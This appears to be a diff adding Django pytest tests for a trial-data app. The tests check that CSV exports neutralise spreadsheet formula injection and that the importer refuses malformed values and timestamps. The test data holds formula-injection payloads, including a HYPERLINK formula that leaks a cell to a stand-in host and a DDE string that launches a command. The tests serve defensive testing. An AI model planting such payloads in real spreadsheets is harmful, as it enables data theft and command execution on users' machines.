@@ -5,7 +5,7 @@ and files refused as a whole with every bad line reported."""
 import csv
 import io
 import re
-from datetime import datetime
+from datetime import datetime, timedelta
 
 import pandas as pd
 import pytest
@@ -14,7 +14,7 @@ from django.db.models import Count
 
 from surveys.models import Response, Score
 from trials.models import Allocation, ConsentDocument
-from trials.services import participant_withdraw
+from trials.services import participant_enrol, participant_withdraw
 from trials.spreadsheet import unneutralised
 
 pytestmark = pytest.mark.django_db
@@ -363,3 +363,177 @@ def test_unreadable_files_are_refused_with_a_clear_reason(small_trial, tmp_path)
     assert "Cannot read" in _refusal(tmp_path / "missing.csv")
     with pytest.raises(CommandError, match="No trial with slug 'nope'"):
         call_command("import_responses", "nope", str(narrow))
+
+
+# Text a spreadsheet would run as a formula, and text that breaks hand-made CSV.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\rx",
+    'she said "yes", twice',
+    "two\nlines",
+    "Grüße, 日本 ✓",
+]
+# Item codes as a licensed pack may spell them (the importer trims spaces, so none lead).
+HOSTILE_ITEMS = ['=HYPERLINK("http://evil.example","x")', "+1", "-2+3", "@SUM(A1)", 'a "b", c']
+# What a spreadsheet-safe export must hold for each: one apostrophe before a formula start.
+NEUTRALISED_ITEMS = ["'" + HOSTILE_ITEMS[0], "'+1", "'-2+3", "'@SUM(A1)", 'a "b", c']
+PSEUDONYM = "-2+3AbCdEfGhIjKlMnOpQr"  # token_urlsafe ids may start with "-"
+
+
+def _hostile_instrument() -> dict:
+    """A pack instrument whose wording and codes are hostile, on a scale with negative points."""
+    return {
+        "code": "hostile",
+        "name": "=cmd|' /C calc'!A0",
+        "version": "1",
+        "citation": "A licensed instrument with hostile wording.",
+        "licence": "licence-required",
+        "validated": False,
+        "recall_window_days": 0,
+        "languages": {"en": {"source": "licence holder"}},
+        "scale": {"min": -2, "max": 2, "labels": {"en": HOSTILE[:5]}},
+        "stem": {"en": HOSTILE[5]},
+        "items": [
+            {"code": code, "reverse": False, "text": {"en": HOSTILE[position + 4]}}
+            for position, code in enumerate(HOSTILE_ITEMS)
+        ],
+        "scores": [
+            {"code": "@score", "dimension": "life_satisfaction", "rule": "mean", "range": [-2, 2]}
+        ],
+    }
+
+
+def _raw_rows(path) -> list[list]:
+    """The file as ``csv.reader`` reads it, unquoted numbers as floats (so text and numbers can
+    be told apart)."""
+    with path.open(encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
+
+
+def _assert_spreadsheet_safe(rows: list[list]) -> None:
+    for row in rows:
+        for cell in row:
+            assert not (isinstance(cell, str) and cell[:1] in "=+-@\t\r" and cell), repr(cell)
+
+
+def test_every_exported_csv_neutralises_formulas_and_reads_back_equal(
+    small_trial, tmp_path, monkeypatch
+):
+    from types import SimpleNamespace
+
+    import trials.models
+    from surveys.services import instrument_pack_load, response_submit, wave_create
+
+    instrument_pack_load(pack={"instruments": [_hostile_instrument()]})
+    after = max(w.day_offset + w.window_days for w in small_trial.waves.all())
+    wave = wave_create(trial=small_trial, index=3, day_offset=after, instrument_codes=["hostile"])
+    # A pseudonym that starts like a formula, through the real enrolment.
+    monkeypatch.setattr(
+        trials.models, "secrets", SimpleNamespace(token_urlsafe=lambda n: PSEUDONYM)
+    )
+    newcomer = participant_enrol(
+        trial=small_trial,
+        email="hostile@example.org",
+        consent_document=ConsentDocument.objects.get(trial=small_trial),
+        scopes=["surveys"],
+    )
+    assert newcomer.pk == PSEUDONYM
+    values = [-2, -1, 0, 1, 2]
+    answers = {"hostile": dict(zip(HOSTILE_ITEMS, values, strict=True))}
+    response_submit(participant=newcomer, wave=wave, answers=answers, languages={"hostile": "en"})
+    before = _snapshot(small_trial)
+
+    _export(tmp_path, "csv")
+
+    responses = _raw_rows(tmp_path / "small-responses.csv")
+    assert responses[0] == RESPONSE_COLUMNS
+    mine = [row for row in responses if row[1] == "'" + PSEUDONYM]
+    assert [row[5] for row in mine] == NEUTRALISED_ITEMS
+    # Negative answers are numbers (unquoted), not text to neutralise.
+    assert [(row[3], row[6]) for row in mine] == [(3.0, float(value)) for value in values]
+    _assert_spreadsheet_safe(responses)
+
+    scores = _raw_rows(tmp_path / "small-scores.csv")
+    [score] = [row for row in scores if row[1] == "'" + PSEUDONYM]
+    assert score[4:8] == ["hostile", "'@score", "life_satisfaction", 0.0]
+    _assert_spreadsheet_safe(scores)
+
+    codebook = _raw_rows(tmp_path / "small-codebook.csv")
+    assert codebook[0] == REDCAP_HEADERS
+    fields = {row[0]: row for row in codebook[1:] if row[1] == "hostile" and row[3] != "text"}
+    assert list(fields) == [*NEUTRALISED_ITEMS, "'@score"]
+    first = fields[NEUTRALISED_ITEMS[0]]
+    assert first[2] == "'\rx"  # the stem, as the section header
+    assert [fields[code][4] for code in NEUTRALISED_ITEMS] == [
+        "'\tx",
+        "'\rx",
+        'she said "yes", twice',
+        "two\nlines",
+        "Grüße, 日本 ✓",
+    ]
+    assert first[5] == (
+        "'-2, " + HOSTILE[0] + " | -1, +1 | 0, -2+3 | 1, @SUM(A1:A9) | 2, \tx"
+    )  # only the cell's start can run
+    assert fields["'@score"][4] == "'=cmd|' /C calc'!A0: score @score"
+    _assert_spreadsheet_safe(codebook)
+
+    # The export reads back in: the apostrophes go, the answers come back as they were.
+    Response.objects.filter(participant=newcomer).delete()
+    printed = _import(tmp_path / "small-responses.csv")
+    assert f"1 responses imported, {len(before) - 1} unchanged" in printed
+    assert _snapshot(small_trial) == before
+    assert Response.objects.get(participant=newcomer).answers == answers
+
+
+def test_values_and_times_no_answer_can_have_are_line_errors(small_trial, tmp_path):
+    _export(tmp_path, "csv")
+    rows = _read_csv(tmp_path / "small-responses.csv")
+    removed = _first_participants(small_trial, 1, waves=3)[0]
+    Response.objects.filter(participant=removed).delete()
+    mine = [r for r in rows if r["participant"] == removed]
+    enrolled = small_trial.participants.get(pk=removed).enrolled_at
+    mine[0]["value"] = "9" * 5000  # beyond Python's 4,300-digit int-parsing limit
+    mine[1]["value"] = "-" + "1" * 19
+    mine[2]["value"] = "x" * 10_000
+    for row in mine[10:20]:  # one whole response, so times agree within it
+        row["submitted_at"] = "2999-01-01T00:00:00+00:00"
+    for row in mine[20:30]:
+        row["submitted_at"] = (enrolled - timedelta(days=1)).isoformat()
+    mine[9]["submitted_at"] = "0001-01-01T00:00:00+05:00"  # before the year 1 in UTC
+    _write_csv(tmp_path / "bad.csv", rows)
+
+    message = _refusal(tmp_path / "bad.csv")
+
+    def line(row: dict) -> int:
+        return next(number for number, r in enumerate(rows, start=2) if r is row)
+
+    assert f"line {line(mine[0])}: value '{'9' * 60}…' has 5000 digits" in message
+    assert f"line {line(mine[1])}: value '-{'1' * 19}' has 19 digits" in message
+    assert f"line {line(mine[2])}: value '{'x' * 60}…' is not an integer" in message
+    assert f"line {line(mine[10])}: submitted_at '2999-01-01T00:00:00+00:00' is in the future" in (
+        message
+    )
+    assert f"line {line(mine[20])}: submitted_at " in message
+    assert f"is before {removed} enrolled" in message
+    assert f"line {line(mine[9])}: submitted_at '0001-01-01T00:00:00+05:00' is not an ISO" in (
+        message
+    )
+    assert len(message) < 20_000  # bad cells are quoted cut short
+
+
+def test_a_parquet_value_python_cannot_hold_refuses_the_file(small_trial, tmp_path):
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    _export(tmp_path, "parquet")
+    table = pq.read_table(tmp_path / "small-responses.parquet")
+    times = table.column("submitted_at").cast(pa.int64()).to_pylist()
+    times[0] = 2**62  # microseconds: far beyond the year 9999
+    column = pa.array(times, pa.int64()).cast(pa.timestamp("us", tz="UTC"))
+    far = tmp_path / "far.parquet"
+    pq.write_table(table.set_column(8, "submitted_at", column), far)
+    assert "far.parquet holds a value that cannot be read" in _refusal(far)
